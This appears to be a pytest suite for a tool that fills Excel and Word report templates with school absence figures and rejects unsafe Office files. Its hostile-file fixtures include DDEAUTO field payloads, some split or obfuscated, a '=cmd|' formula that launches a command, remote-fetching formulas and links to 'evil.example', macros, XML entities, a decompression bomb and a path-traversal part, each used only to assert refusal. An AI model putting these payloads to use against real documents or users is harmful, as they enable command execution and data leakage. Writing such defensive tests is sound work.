"""Blank forms: filled in place, rows repeated, hostile ones refused in a child process."""

import io
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest

from tests.returns import papers
from xiaoan.workbooks import blanks
from xiaoan.workbooks.blanks import Share
from xiaoan.workbooks.blanks.shifting import Shift

Looked = Callable[[bytes, str], blanks.Blank]


@pytest.fixture
def look(tmp_path: Path) -> Looked:
    def looked(content: bytes, name: str = "form.xlsx") -> blanks.Blank:
        path = tmp_path / name
        path.write_bytes(content)
        return blanks.look(path)

    return looked


def refused(look: Looked, content: bytes, name: str = "form.xlsx") -> str:
    with pytest.raises(blanks.Unfit) as told:
        look(content, name)
    assert str(told.value)
    return told.value.code


def test_what_a_form_asks(look: Looked) -> None:
    found = look(papers.ministry(), "m.xlsx")
    assert (found.kind, [grid.name for grid in found.grids]) == ("xlsx", ["上报表"])
    assert [(one.what, one.ref, one.repeat) for one in found.marks] == [
        ("单位", "上报表!A1", ""), ("日期", "上报表!A1", ""), ("序号", "上报表!A3", "school"),
        ("学校名称", "上报表!B3", "school"), ("因病缺勤.分母", "上报表!C3", "school"),
        ("因病缺勤.分子", "上报表!D3", "school"), ("因病缺勤.率", "上报表!E3", "school"),
        ("填表人", "上报表!B5", ""), ("联系电话", "上报表!D5", ""),
    ]  # fmt: skip


def schools(count: int) -> list[dict[str, blanks.Value]]:
    return [
        {"序号": n, "学校名称": f"学校{n}", "因病缺勤.分母": 10, "因病缺勤.分子": n,
         "因病缺勤.率": Share(n / 10, f"{n}0.0%")}
        for n in range(1, count + 1)
    ]  # fmt: skip


def test_a_row_becomes_one_for_each_school_and_sums_grow(look: Looked) -> None:
    values: dict[str, blanks.Value] = {"单位": "青禾县", "日期": "2026年11月23日", "填表人": "王"}
    filled = blanks.fill(papers.ministry(), {}, values, {"school": schools(3)})
    assert papers.cells(filled) == [
        ["青禾县 因病缺课日报 2026年11月23日", None, None, None, None, None],
        ["序号", "学校", "应报学生", "因病缺课", "率", "合计"],
        [1, "学校1", 10, 1, 0.1, "=C3+D3"],
        [2, "学校2", 10, 2, 0.2, "=C4+D4"],
        [3, "学校3", 10, 3, 0.3, "=C5+D5"],
        ["合计", None, "=SUM(C3:C5)", "=SUM(D3:D5)", None, None],
        ["填表人", "王", "联系电话", None, None, None],
    ]
    book = openpyxl.load_workbook(io.BytesIO(filled))
    sheet = book.active
    assert sheet is not None
    assert {str(one) for one in sheet.merged_cells.ranges} == {"A1:F1", "A6:B6"}
    assert (sheet.print_area, sheet["E5"].number_format) == ("'上报表'!$A$1:$F$7", "0.0%")
    assert (sheet["A1"].font.sz, sheet["A1"].font.b) == (18, True)
    look(filled, "again.xlsx")


def test_no_school_leaves_one_empty_row() -> None:
    found = papers.cells(blanks.fill(papers.ministry(), {}, {}, {"school": []}))
    assert found[2] == [None, None, None, None, None, "=C3+D3"]
    assert len(found) == 5


def test_what_is_assigned_stands_as_if_it_were_in_the_form(look: Looked) -> None:
    blank = papers.workbook([["学校", "人数"], [None, None]])
    assert look(blank, "b.xlsx").marks == ()
    cells = {"上报表!B2": "{{因病缺勤}}", "上报表!D4": "{{日期}}", "上报表!A2": "{{单位}}"}
    filled = blanks.fill(blank, cells, {"因病缺勤": 7, "日期": "今天", "单位": "实验小学"})
    assert papers.cells(filled) == [
        ["学校", "人数", None, None], ["实验小学", 7, None, None], [None, None, None, None],
        [None, None, None, "今天"],
    ]  # fmt: skip


def test_text_is_never_a_formula() -> None:
    blank = papers.workbook([["{{填表人}}", "甲{{填表人}}"]])
    sheet = openpyxl.load_workbook(io.BytesIO(blanks.fill(blank, {}, {"填表人": "=1+1"}))).active
    assert sheet is not None
    assert b"<f>" not in blanks.fill(blank, {}, {"填表人": "=1+1"})
    assert [
        grid.rows[0][0].text for grid in blanks.grids(blanks.fill(blank, {}, {"填表人": "=1+1"}))
    ] == ["=1+1"]


def test_a_document_keeps_its_runs_and_repeats_rows(look: Looked) -> None:
    body = papers.paragraph("截至{", "{日", "期}}", ",共{{人}}人") + papers.table(
        ["学校", "人数"], ["{{每校}}{{学校名称}}", "{{因病缺勤}}"], ["合计", "{{人}}"]
    )
    blank = papers.document(body)
    found = look(blank, "d.docx")
    assert [(one.what, one.ref, one.repeat) for one in found.marks] == [
        ("日期", "正文!1", ""), ("人", "正文!1", ""), ("学校名称", "表1!2.1", "school"),
        ("因病缺勤", "表1!2.2", "school"), ("人", "表1!3.2", ""),
    ]  # fmt: skip
    rows: list[dict[str, blanks.Value]] = [
        {"学校名称": "甲", "因病缺勤": 1},
        {"学校名称": "乙<&", "因病缺勤": 2},
    ]
    filled = blanks.fill(blank, {}, {"日期": "11月23日", "人": 3}, {"school": rows})
    text, table = blanks.grids(filled)
    assert [row[0].text for row in text.rows] == ["截至11月23日,共3人"]
    assert [[cell.text for cell in row] for row in table.rows] == [
        ["学校", "人数"], ["甲", "1"], ["乙<&", "2"], ["合计", "3"],
    ]  # fmt: skip


def test_wide_braces_are_taken(look: Looked) -> None:
    blank = papers.workbook([["｛｛单位｝｝"]])
    assert [one.what for one in look(blank, "w.xlsx").marks] == ["单位"]
    assert papers.cells(blanks.fill(blank, {}, {"单位": "青禾县"})) == [["青禾县"]]


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("SUM(C3:C3)", "SUM(C3:C5)"), ("C9+1", "C11+1"), ("$C$9", "$C$11"), ("C2", "C2"), ("C3", "C3"),
        ('IF(A9="C9",1,2)', 'IF(A11="C9",1,2)'), ("别表!C9", "别表!C9"), ("上报表!C9", "上报表!C11"),
        ("'上报表'!$A$1:$F$9", "'上报表'!$A$1:$F$11"), ("LOG10(9)", "LOG10(9)"), ("C1:C2", "C1:C2"),
    ],
)  # fmt: skip
def test_addresses_move_with_their_rows(before: str, after: str) -> None:
    assert Shift("上报表", 3, 3).formula(before, "上报表") == after


_HYPER = '<Relationship Id="r9" Type="http://x/{kind}" Target="http://evil.example/t" TargetMode="External"/>'


def rels(kind: str) -> str:
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships">{_HYPER.format(kind=kind)}</Relationships>'
    )


FIELD = '<w:p><w:r><w:instrText> {code} "http://evil.example" </w:instrText></w:r></w:p>'
BOOK, PAPER = papers.ministry(), papers.document(papers.paragraph("{{单位}}"))


def field(*pieces: str) -> str:
    """A field whose code stands in pieces, as a program writes it that was edited."""
    runs = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in pieces)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return f"<w:p>{mark.format('begin')}{runs}{mark.format('end')}</w:p>"


def typed(name: str, kind: str) -> dict[str, str | bytes]:
    """A part of a book by another name, and what it is said to be."""
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default '
        'Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType='
        '"application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'
    )
    return {"[Content_Types].xml": types, name: "<a/>"}


def inside(kind: str, target: str) -> str:
    return rels(kind).replace(' TargetMode="External"', "").replace("http://evil.example/t", target)


_OFFICE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
OTHER_PREFIX = (
    '<x:fldSimple xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'x:instr="DDEAUTO c"/>'
)
DEEP = papers.document("<w:p>" * 200 + "</w:p>" * 200)
HOSTILE = {
    "macros": (papers.with_parts(BOOK, {"xl/vbaProject.bin": b"\xd0\xcf"}), "has_macros"),
    "macros of a document": (papers.with_parts(PAPER, {"word/vbaProject.bin": b"x"}), "has_macros"),
    "controls": (papers.with_parts(PAPER, {"word/activeX/activeX1.xml": "<a/>"}), "has_macros"),
    "an embedded file": (papers.with_parts(BOOK, {"xl/embeddings/oleObject1.bin": b"x"}), "has_objects"),
    "an archive within": (papers.with_parts(BOOK, {"xl/media/a.png": PAPER}), "nested_file"),
    "another book": (
        papers.with_parts(BOOK, {"xl/externalLinks/externalLink1.xml": "<a/>"}), "outside_links",
    ),
    "a template from outside": (
        papers.with_parts(PAPER, {"word/_rels/document.xml.rels": rels("attachedTemplate")}), "outside_links",
    ),
    "a picture from outside": (
        papers.with_parts(PAPER, {"word/_rels/document.xml.rels": rels("image")}), "outside_links",
    ),
    "DDE": (papers.document(FIELD.format(code="DDEAUTO")), "active_field"),
    "a text that is fetched": (papers.document(FIELD.format(code="INCLUDETEXT")), "active_field"),
    "a formula that fetches": (papers.workbook([['=WEBSERVICE("http://e")']]), "active_field"),
    "a formula that runs": (papers.workbook([["=cmd|'/c calc'!A1"]]), "active_field"),
    "DDE in pieces": (papers.document(field(" DD", "EAU", "TO c:\\\\x ")), "active_field"),
    "DDE put together": (papers.document(field(" QUOTE 68 68 69 ")), "active_field"),
    "DDE in a second field": (papers.document(field(" PAGE ") + field("LI", "NK x")), "active_field"),
    "DDE by another prefix": (papers.document(f"<w:p>{OTHER_PREFIX}</w:p>"), "active_field"),
    "DDE around an element": (
        papers.document("<w:p><w:r><w:instrText>D<w:a/>DE<w:b>AUTO</w:b> x</w:instrText></w:r></w:p>"),
        "active_field",
    ),
    "a picture by a formula": (papers.workbook([['=_xlfn.IMAGE("http://e")']]), "active_field"),
    "a part that no look reads": (papers.with_parts(PAPER, {"word/x.dat": "<a/>"}), "has_objects"),
    "a picture that is a document": (
        papers.with_parts(PAPER, typed("word/x.png", "application/x.document.main+xml")), "has_objects",
    ),
    "macros by another name": (
        papers.with_parts(BOOK, typed("xl/x.xml", "application/vnd.ms-office.vbaProject")), "has_macros",
    ),
    "a macro sheet by another name": (
        papers.with_parts(BOOK, typed("xl/worksheets/s9.xml", "application/vnd.ms-excel.macrosheet+xml")),
        "has_macros",
    ),
    "another book by another name": (
        papers.with_parts(BOOK, typed("xl/s9.xml", f"{_OFFICE}.externalLink+xml")), "outside_links",
    ),
    "an object by its relationship": (
        papers.with_parts(PAPER, {"word/_rels/document.xml.rels": inside("oleObject", "media/a.png")}),
        "has_objects",
    ),
    "macros by their relationship": (
        papers.with_parts(PAPER, {"word/_rels/document.xml.rels": inside("vbaProject", "media/a.png")}),
        "has_macros",
    ),
    "a page within": (papers.document('<w:altChunk/>'), "has_objects"),
    "a page within, by its relationship": (
        papers.with_parts(PAPER, {"word/_rels/document.xml.rels": inside("aFChunk", "a.xml")}), "has_objects",
    ),
    "outside in other letters": (
        papers.with_parts(
            PAPER, {"word/_rels/document.xml.rels": rels("image").replace("External", "external")}
        ),
        "outside_links",
    ),
    "entities": (
        papers.with_parts(PAPER, {"word/document.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
        "entities",
    ),
    "a bomb": (papers.with_parts(PAPER, {"word/x.xml": b"<a>" + b" " * (30 << 20) + b"</a>"}), "bomb"),
    "too deep": (DEEP, "too_deep"),
    "broken XML": (papers.with_parts(PAPER, {"word/document.xml": "<a><b></a>"}), "damaged"),
    "a path out": (papers.with_parts(PAPER, {"../x.xml": "<a/>"}), "bad_path"),
    "text": (b"a,b\r\n1,2\r\n", "not_a_form"),
    "a PDF": (b"%PDF-1.7 .....................", "not_a_form"),
    "slides": (papers.package({"_rels/.rels": "<a/>", "ppt/presentation.xml": "<a/>"}), "not_a_form"),
    "nothing": (b"", "empty"),
    "an empty document": (papers.document(""), "nothing_in_it"),
    "two things in a row": (papers.workbook([["{{每校}}", "{{每乡镇}}"]]), "two_repeats"),
    "too wide": (papers.workbook([[*[None] * 70, "x"]]), "too_wide"),
    "too many marks": (papers.workbook([["{{a}}" * 10] * 51]), "too_many_marks"),
    "half a file": (BOOK[: len(BOOK) // 2], "damaged"),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_refused_by_its_reason(look: Looked, name: str) -> None:
    content, code = HOSTILE[name]
    assert refused(look, content) == code


def test_a_link_to_click_is_no_harm(look: Looked) -> None:
    content = papers.with_parts(PAPER, {"word/_rels/document.xml.rels": rels("hyperlink")})
    assert look(content, "h.docx").kind == "docx"


def test_a_field_that_only_leads_somewhere_or_counts_is_no_harm(look: Looked) -> None:
    body = (
        papers.paragraph("{{单位}}")
        + field(' HYPERLINK "http://x.cn/import/set" \\h ')
        + field(" PAGE ")
    )
    quiet = {"word/media/a.jpeg": b"x", "xl/printerSettings/printerSettings1.bin": b"x"}
    assert look(papers.with_parts(papers.document(body), quiet), "h.docx").kind == "docx"


def test_a_file_over_the_limit_is_not_opened(look: Looked) -> None:
    assert refused(look, b"x" * ((2 << 20) + 1)) == "file_too_large"
